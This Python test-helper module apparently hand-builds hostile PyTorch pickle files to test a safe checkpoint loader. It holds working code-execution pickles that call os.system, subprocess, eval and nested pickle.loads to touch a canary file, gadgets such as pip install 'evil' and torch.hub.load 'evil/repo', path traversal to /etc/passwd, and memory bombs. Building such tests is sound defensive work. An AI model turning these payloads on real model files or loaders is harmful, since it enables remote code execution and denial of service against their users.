"""Builders of hostile ``.bin`` files, opcode by opcode, so that no case depends on what ``pickle.dumps`` would write.

``code_cases`` run code in a real unpickler (the tests prove it); ``structure_cases`` are wrong in their structure.
"""

import io
import pickle
import struct
import zipfile

STOP = b"."


def name(dotted):
    module, _, attribute = dotted.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def short(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def number(value):
    raw = pickle.encode_long(value)
    return b"\x8a" + bytes([len(raw)]) + raw


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def numbers(*values):
    return tup(*map(number, values))


def call(function, *args):
    return (name(function) if isinstance(function, str) else function) + tup(*args) + b"R"


def top(value, key="w", protocol=2):
    """A dict with one entry."""
    return bytes([0x80, protocol]) + b"}" + text(key) + value + b"s" + STOP


def storage(key="0", numel=4, kind="torch.FloatStorage", location="cpu", tag="storage", more=b""):
    return tup(text(tag), name(kind), text(key), text(location), number(numel), more) + b"Q"


NO_HOOKS = name("collections.OrderedDict") + b")R"


def tensor(data=None, offset=0, size=(4,), stride=(1,), grad=b"\x89", hooks=NO_HOOKS, more=b""):
    sizes = (number(offset), numbers(*size), numbers(*stride))
    return call("torch._utils._rebuild_tensor_v2", data or storage(), *sizes, grad, hooks, more)


INT8 = name("torchao.quantization.Int8Tensor")


def wrapper(cls=INT8, inner=INT8, size=(4,), stride=(1,), state=None):
    layout = call("torch.serialization._get_layout", text("torch.strided"))
    device = call("torch.device", text("cpu"))
    args = tup(inner, name("torch.float32"), numbers(*size), numbers(*stride), number(0), layout, device, b"\x89")
    state = state or b"}" + text("qdata") + tensor() + b"s"
    rebuild = name("torch._utils._rebuild_wrapper_subclass")
    return call("torch._tensor._rebuild_from_type_v2", rebuild, cls, args, state)


def archive(pickled, storages=None, prefix="archive", method=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        file.writestr(f"{prefix}/data.pkl", pickled)
        file.writestr(f"{prefix}/byteorder", b"little")
        for key, payload in ({"0": bytes(16)} if storages is None else storages).items():
            file.writestr(f"{prefix}/data/{key}", payload)
        file.writestr(f"{prefix}/version", b"3\n")
    return buffer.getvalue()


def code_cases(canary):
    """name -> pickle that creates the file ``canary`` in a real unpickler."""
    shell, source = text(f"touch {canary}"), text(f"open({str(canary)!r}, 'w').close()")
    argv = tup(text("touch"), text(str(canary)))
    system, evaluate = name("os.system"), name("builtins.eval")
    imported = call("builtins.__import__", text("os"))
    run = call(system, shell)
    line = f"touch {canary}".encode()
    path = call("pathlib.Path", text(str(canary)))
    proto4 = b"\x80\x04"
    loads = b"cos\nsystem\n(S'" + line + b"'\ntR."
    inner = b"B" + struct.pack("<I", len(loads)) + loads
    getter = "builtins.getattr"
    return {
        "os.system": top(run),
        "posix.system": top(call("posix.system", shell)),
        "os.popen": top(call("os.popen", shell)),
        "subprocess.Popen": top(call("subprocess.Popen", argv)),
        "subprocess.check_output": top(call("subprocess.check_output", argv)),
        "builtins.eval": top(call(evaluate, source)),
        "builtins.exec": top(call("builtins.exec", source)),
        "__builtin__.eval of Python 2": top(call("__builtin__.eval", source)),
        "builtins.getattr": top(call(call(getter, imported, text("system")), shell)),
        "builtins.open": top(call("builtins.open", text(str(canary)), text("w"))),
        "io.open": top(call("io.open", text(str(canary)), text("w"))),
        "functools.partial": top(call(call("functools.partial", system, shell))),
        "functools.partial later": top(call(call("functools.partial", system), shell)),
        "functools.reduce": top(call("functools.reduce", evaluate, tup(source, b"}"))),
        "builtins.map": top(call("builtins.list", call("builtins.map", evaluate, tup(source)))),
        "operator.methodcaller": top(call(call("operator.methodcaller", text("system"), shell), imported)),
        "operator.attrgetter": top(call(call(call("operator.attrgetter", text("system")), imported), shell)),
        "runpy": top(call("runpy._run_code", call("builtins.compile", source, text("x"), text("exec")), b"}")),
        "timeit": top(call("timeit.timeit", source, text("pass"), name("time.time"), number(1))),
        "profile.run": top(call("profile.run", source)),
        "code": top(call(call(getter, call("code.InteractiveInterpreter"), text("runsource")), source)),
        "pathlib": top(call(call(getter, path, text("touch")))),
        "shutil.copy": top(call("shutil.copy", text("/etc/hostname"), text(str(canary)))),
        "torch.storage._load_from_bytes": top(call("torch.storage._load_from_bytes", inner)),
        "pickle.loads nested": top(call("pickle.loads", inner)),
        "_pickle.loads nested": top(call("_pickle.loads", inner)),
        "INST": b"\x80\x02(" + shell + b"ios\nsystem\n" + STOP,
        "OBJ": b"\x80\x02(" + name("subprocess.Popen") + argv + b"o" + STOP,
        "NEWOBJ": top(name("subprocess.Popen") + tup(argv) + b"\x81" + call(evaluate, source) + b"b"),
        "NEWOBJ_EX": proto4 + name("builtins.str") + tup(run) + b"}\x92" + STOP,
        "STACK_GLOBAL": proto4 + short("posix") + short("system") + b"\x93" + tup(shell) + b"R" + STOP,
        "STACK_GLOBAL from memo": (
            proto4
            + b"("
            + short("system")
            + b"\x94"
            + short("os")
            + b"\x94"
            + b"h\x01h\x00\x93"
            + tup(shell)
            + b"Rt"
            + STOP
        ),
        "STACK_GLOBAL from concatenation": (
            proto4
            + call("operator.concat", text("o"), text("s"))
            + short("system")
            + b"\x93"
            + tup(shell)
            + b"R"
            + STOP
        ),
        "STACK_GLOBAL dotted": proto4 + short("shutil") + short("os.system") + b"\x93" + tup(shell) + b"R" + STOP,
        "STACK_GLOBAL through an allowed module": (
            proto4 + short("collections") + short("_sys.modules.__class__") + b"\x93" + tup(tup()) + b"R0" + run + STOP
        ),
        "state of a BUILD": top(call("types.SimpleNamespace") + b"}" + text("x") + run + b"sb"),
        "key of a dict": b"\x80\x02}" + run + b"Ns" + STOP,
        "inside a persistent id": b"\x80\x02" + tup(text("storage"), run) + b"0}" + STOP,
        "popped": b"\x80\x02" + run + b"0}" + STOP,
        "under a mark": b"\x80\x02(" + run + b"1}" + STOP,
        "only in the memo": b"\x80\x02" + run + b"q\x000}" + STOP,
        "twice through the memo": b"\x80\x02"
        + system
        + b"q\x00"
        + tup(shell)
        + b"R0h\x00"
        + tup(shell)
        + b"R0}"
        + STOP,
        "in the arguments of an allowed call": b"\x80\x02"
        + call("collections.OrderedDict", tup(tup(text("a"), run)))
        + STOP,
        "in the state of an OrderedDict": b"\x80\x02" + NO_HOOKS + b"}" + text("_metadata") + run + b"sb" + STOP,
        "protocol 0": loads,
        "protocol 1": b"cos\nsystem\n(U" + bytes([len(line)]) + line + b"tR.",
        "protocol 3": b"\x80\x03cos\nsystem\nX" + struct.pack("<I", len(line)) + line + b"\x85R.",
        "protocol 4": b"\x80\x04" + short("posix") + short("system") + b"\x93" + shell + b"\x85R.",
        "protocol 5": b"\x80\x05"
        + short("posix")
        + b"\x94"
        + short("system")
        + b"\x94\x93\x94"
        + shell
        + b"\x94\x85R.",
    }


def named_cases():
    """name -> (pickle, what the refusal says): harmless to run in a test only because nothing runs it."""
    other = {
        "torch.hub.load": call("torch.hub.load", text("evil/repo"), text("model")),
        "webbrowser.open": call("webbrowser.open", text("http://127.0.0.1:9/")),
        "pip.main": call("pip.main", b"]" + text("install") + b"a" + text("evil") + b"a"),
        "pip._internal.cli.main.main": call("pip._internal.cli.main.main", b"]"),
        "urllib.request.urlopen": call("urllib.request.urlopen", text("http://127.0.0.1:9/")),
        "socket.socket": call("socket.socket"),
        "ctypes.CDLL": call("ctypes.CDLL", text("libc.so.6")),
        "importlib.import_module": call("importlib.import_module", text("antigravity")),
        "sys.exit": call("sys.exit", number(0)),
        "os._exit": call("os._exit", number(0)),
        "torch.load": call("torch.load", text("other.bin")),
        "torch.jit.load": call("torch.jit.load", text("other.pt")),
        "torch.ops.load_library": call("torch.ops.load_library", text("evil.so")),
        "torch.utils.cpp_extension.load_inline": call("torch.utils.cpp_extension.load_inline", text("x"), text("y")),
        "torch._inductor.codecache.compile_file": call("torch._inductor.codecache.compile_file", text("x")),
        "numpy.core.multiarray._reconstruct": call(
            "numpy.core.multiarray._reconstruct", b"N", tup(number(0)), text("b")
        ),
        "_codecs.encode": call("_codecs.encode", text("x"), text("idna")),
        "copyreg._reconstructor": call(
            "copyreg._reconstructor", name("builtins.object"), name("builtins.object"), b"N"
        ),
        "torch._utils._rebuild_device_tensor_from_numpy": call(
            "torch._utils._rebuild_device_tensor_from_numpy", b"N", b"N", b"N", b"\x89"
        ),
        "torchao.utils.unwrap_tensor_subclass": call("torchao.utils.unwrap_tensor_subclass", b"N"),
    }
    return {f"name {key}": (top(value), key) for key, value in other.items()}


def with_state(data, state):
    return call("torch._utils._rebuild_parameter_with_state", data, b"\x89", NO_HOOKS, state)


def got(index):
    return b"j" + struct.pack("<I", index)


def put(index):
    return b"r" + struct.pack("<I", index)


def entries(*values):
    """A dict of these values at the top."""
    return b"\x80\x02}(" + b"".join(text(f"w{at}") + value for at, value in enumerate(values)) + b"u" + STOP


def bombs():
    """name -> pickle that is small, and gives much: each thing in it is allowed."""
    first = tensor() + put(0)
    inside = [with_state(got(at), b"}(" + text("a") + got(at) + text("b") + got(at) + b"u") + put(at + 1)
              for at in range(60)]  # fmt: skip
    chain = [wrapper(state=b"}(" + text("qdata") + got(at) + b"u") + put(at + 1) for at in range(1200)]
    attributes = b"}(" + b"".join(text(f"a{at}") + b"N" for at in range(3000)) + b"u" + put(1)
    shared = [with_state(got(0), attributes)] + [with_state(got(0), got(1)) for _ in range(3000)]
    growing = [with_state(got(at), b"}" + text(f"a{at}") + b"Ns") + put(at + 1) for at in range(3000)]
    again = [with_state(got(0), b"}" + text("a") + got(9) + b"s") for _ in range(300)]
    args = tup(storage(), number(0), numbers(4), numbers(1), b"\x89", NO_HOOKS, b"N")
    key, calls = text("b") + b"](", b"h\x01h\x02R" * 30_000 + b"e"
    flood = name("torch._utils._rebuild_tensor_v2") + b"q\x01" + args + b"q\x02R" + key + calls
    devices = name("torch.device") + b"q\x01" + tup(text("cpu")) + b"q\x02R" + key + calls
    ordered = NO_HOOKS[:-2] + put(1) + b")R" + (got(1) + b")R") * 60_000
    return {
        "tensors inside tensors, each twice": entries(first, *inside),
        "a chain of wrappers": entries(first, *chain),
        "thousands of tensors with the same thousands of attributes": entries(first, *shared),
        "attributes that are added one by one": entries(first, *growing),
        "the same large list for hundreds": entries(first, b"](" + b"N" * 20_000 + b"e" + put(9), *again),
        "a call again and again": b"\x80\x02}(" + text("a") + flood + b"u" + STOP,
        "devices again and again": b"\x80\x02}(" + text("a") + devices + b"u" + STOP,
        "empty dicts": b"\x80\x02}" + text("a") + b"](" + b"}" * 50_000 + b"es" + STOP,
        "ordered dicts": b"\x80\x02}" + text("a") + b"](" + ordered + b"es" + STOP,
    }


def structure_cases():
    """name -> (pickle, what the refusal says)."""
    fit = storage(numel=4)
    million = 1_000_000
    laughs = b"(]q\x00" + (b"](" + b"h\x00" * 10 + b"eq\x00") * 40 + b"t"
    cycle = b"\x80\x02}" + text("w") + b"]q\x00h\x00ah\x00as" + STOP
    much = "nested too deeply, or repeat each other|more than [0-9,]+ lists"
    return {
        **{name: (pickled, much) for name, pickled in bombs().items()},
        "EXT1": (top(b"\x82\x01"), "EXT1"),
        "EXT2": (top(b"\x83\x01\x00"), "EXT2"),
        "EXT4": (top(b"\x84\x01\x00\x00\x00"), "EXT4"),
        "PERSID": (b"\x80\x02P../../etc/passwd\n.", "PERSID"),
        "NEXT_BUFFER": (b"\x80\x05\x97.", "NEXT_BUFFER"),
        "key with ..": (top(tensor(storage("../0"))), "storage called"),
        "key with a slash": (top(tensor(storage("/etc/passwd"))), "storage called"),
        "key that is not there": (top(tensor(storage("7"))), "storage 7 is not in the archive"),
        "storage smaller than named": (top(tensor(storage(numel=5))), "16 bytes in the archive, 20"),
        "storage larger than named": (top(tensor(storage(numel=3), size=(3,))), "16 bytes in the archive, 12"),
        "negative numel": (top(tensor(storage(numel=-1))), "elements"),
        "location that is a path": (top(tensor(storage(location="../cpu"))), "storage called"),
        "persistent id of another tag": (top(tensor(storage(tag="module"))), "persistent id"),
        "persistent id with a view": (top(tensor(storage(more=b"N"))), "persistent id"),
        "persistent id of a class": (top(tensor(storage(kind="torch.Tensor"))), "persistent id"),
        "persistent id that is a string": (top(text("storage") + b"Q"), "persistent id"),
        "storage as a value": (top(fit), "a storage is used as a value"),
        "storage named in two ways": (
            top(tup(tensor(fit), tensor(storage(numel=16, kind="torch.CharStorage")))),
            "two|different ways",
        ),
        "stride 0 of 10^15 elements": (top(tensor(size=(10**15,), stride=(0,))), "1,000,000,000,000,000 elements"),
        "2^200 elements": (top(tensor(size=(2**50,) * 4, stride=(0,) * 4)), "more than 2"),
        "zero times huge": (top(tensor(size=(2**62, 0), stride=(1, 1))), "whole numbers"),
        "offset outside": (top(tensor(offset=4, size=(1,))), "holds 4"),
        "negative offset": (top(tensor(offset=-1)), "do not belong together"),
        "empty but far outside": (top(tensor(offset=10**12, size=(0,))), "holds 4"),
        "negative stride": (top(tensor(stride=(-1,))), "whole numbers"),
        "stride that leaves": (top(tensor(size=(2,), stride=(4,))), "holds 4"),
        "stride of another length": (top(tensor(size=(2, 2), stride=(1,))), "do not belong together"),
        "boolean size": (top(call("torch._utils._rebuild_tensor", fit, number(0), tup(b"\x88"), numbers(1))), "whole"),
        "too many dims": (top(tensor(size=(1,) * 65, stride=(1,) * 65)), "whole numbers"),
        "hooks": (top(tensor(hooks=NO_HOOKS + text("a") + b"Ns")), "hooks"),
        "hooks of another kind": (top(tensor(hooks=b"N")), "hooks"),
        "gradient flag that is a class": (top(tensor(grad=name("torch.Tensor"))), "gradient"),
        "wrapper of 10^15 elements": (top(wrapper(size=(10**15,))), "over 16 bytes"),
        "wrapper of another class": (top(wrapper(inner=name("torchao.quantization.Float8Tensor"))), "never writes"),
        "wrapper as a plain tensor": (top(wrapper(cls=name("torch.Tensor"))), "rebuilt by"),
        "wrapper with a dunder attribute": (top(wrapper(state=b"}" + text("__class__") + b"Ns")), "__class__"),
        "state that replaces the data": (top(wrapper(state=b"}" + text("data") + tensor() + b"s")), "'data'"),
        "state that sets a gradient": (top(wrapper(state=b"}" + text("_grad") + tensor() + b"s")), "'_grad'"),
        "wrapper with a slot state": (top(wrapper(state=tup(b"N", b"}"))), "that is not a dict"),
        "wrapper rebuilt alone": (top(call("torch._utils._rebuild_wrapper_subclass", INT8)), "never writes"),
        "dense as a torchao class": (
            top(
                call("torch._tensor._rebuild_from_type_v2", name("torch._utils._rebuild_tensor_v2"), INT8, tup(), b"}")
            ),
            "rebuilt by",
        ),
        "torchao class called": (top(call("torchao.quantization.Int8Tensor", b"N")), "never writes"),
        "enum of an object": (top(call("torchao.quantization.quant_primitives.MappingType", b"]")), "enum"),
        "layout by another name": (top(call("torch.serialization._get_layout", text("os.system"))), "never writes"),
        "device by a long name": (top(call("torch.device", text("cpu" * 1000))), "never writes"),
        "OrderedDict with arguments": (top(call("collections.OrderedDict", b"]")), "never writes"),
        "partial over a class": (top(call("functools.partial", INT8)), "never writes"),
        "a dtype called": (top(call("torch.float32")), "never writes"),
        "a class as a value": (top(INT8), "used as a value"),
        "a rebuild function as a value": (top(name("torch._utils._rebuild_tensor_v2")), "used as a value"),
        "BUILD of a tensor": (top(tensor() + b"}b"), "state is given"),
        "BUILD of a list": (top(b"]}b"), "state is given"),
        "call of a string": (top(call(text("os.system"), text("x"))), "that is not a name"),
        "NEWOBJ with arguments": (
            top(name("torchao.quantization.granularity.PerRow") + tup(b"N") + b"\x81"),
            "never writes",
        ),
        "nested pickle in bytes": (top(b"B\x04\x00\x00\x00\x80\x02}."), "nested"),
        "nested pickle in a string": (top(text("cos\nsystem\n(S'id'\ntR.")), "nested"),
        "opcodes after STOP": (top(b"N") + call("os.system", text("id")) + STOP, "after the STOP"),
        "a second pickle": (top(b"N") + top(b"N"), "after the STOP"),
        "no STOP": (top(b"N")[:-1], "without a STOP"),
        "empty": (b"", "without a STOP"),
        "two values at STOP": (b"\x80\x02}}.", "left over"),
        "open mark at STOP": (b"\x80\x02(}.", "left over"),
        "protocol 6": (b"\x80\x06}.", "protocol 6"),
        "protocol twice": (b"\x80\x02}\x80\x04.", "protocol 4 announced"),
        "unknown opcode": (b"\x80\x02\xff.", "0xff"),
        "frame larger than the file": (b"\x80\x04\x95" + b"\xff" * 8 + b"}.", "frame"),
        "huge LONG4": (b"\x80\x02\x8b\xff\xff\xff\x7f" + bytes(64) + b".", "announced"),
        "huge LONG4 that is there": (top(b"\x8b" + struct.pack("<I", 10_000_000) + b"\x7f" * 10_000_000), "integer"),
        "huge LONG in text": (top(b"L" + b"9" * 5_000_000 + b"L\n"), "end of line"),
        "long LONG in text": (top(b"L" + b"9" * 4000 + b"L\n"), "an invalid integer"),
        "huge BINUNICODE8": (b"\x80\x04\x8d" + b"\xff" * 8 + b".", "announced"),
        "huge BYTEARRAY8": (b"\x80\x05\x96" + b"\xff" * 7 + b"\x00.", "announced"),
        "name without an end": (b"\x80\x02c" + b"a" * 5_000_000, "end of line"),
        "name of control characters": (b"\x80\x02c\x1b[2Jos\nsystem\n.", "x1b"),
        "lone surrogate": (b"\x80\x02X\x03\x00\x00\x00\xed\xa0\x80.", "not valid utf-8"),
        "memo that was never set": (top(b"h\x05"), "never set"),
        "mark that was never set": (b"\x80\x02tt.", "no mark"),
        "stack that is empty": (b"\x80\x02\x87.", "empty"),
        "append to a tuple": (top(b")Na"), "that is not a list"),
        "item of a list": (top(b"]NNs"), "that is not a dict"),
        "one key twice": (b"\x80\x02}" + (text("a") + b"Ns") * 2 + STOP, "twice"),
        "tensor as a key": (b"\x80\x02}" + tensor() + b"Ns" + STOP, "dict key"),
        "huge integer key": (b"\x80\x02}" + number(2**61 - 1) + b"Ns" + STOP, "dict key"),
        "list at the top": (b"\x80\x02].", "it does not hold a dict"),
        "tensor at the top": (b"\x80\x02" + tensor() + STOP, "it does not hold a dict"),
        "deep nesting of marks": (b"\x80\x02" + b"(" * million + STOP, "nested"),
        "deep nesting of tuples": (top(b"N" + b"\x85" * million), "nested"),
        "deep nesting of lists": (top(b"]" * 900_000 + b"a" * 899_999), "more than [0-9,]+ lists"),
        "billion laughs": (top(laughs), "nested too deeply, or repeat"),
        "memo bomb": (top(b"(Nq\x00" + b"h\x00h\x00\x86q\x00" * 60 + b"t"), "nested"),
        "wide memo bomb": (top(b"(](" + b"N" * 3000 + b"eq\x00" + b"h\x00" * 3000 + b"t"), "repeat each other"),
        "cycle": (cycle, "nested"),
        "too many opcodes": (b"\x80\x02" + b"N" * 2_100_000, "more than 2,000,000 opcodes"),
        "a sealed dict changed": (
            b"\x80\x02}"
            + text("w")
            + wrapper(state=b"}q\x01" + text("qdata") + tensor() + b"s")
            + b"h\x01"
            + text("x")
            + b"Ns"
            + STOP,
            "in use",
        ),
    }
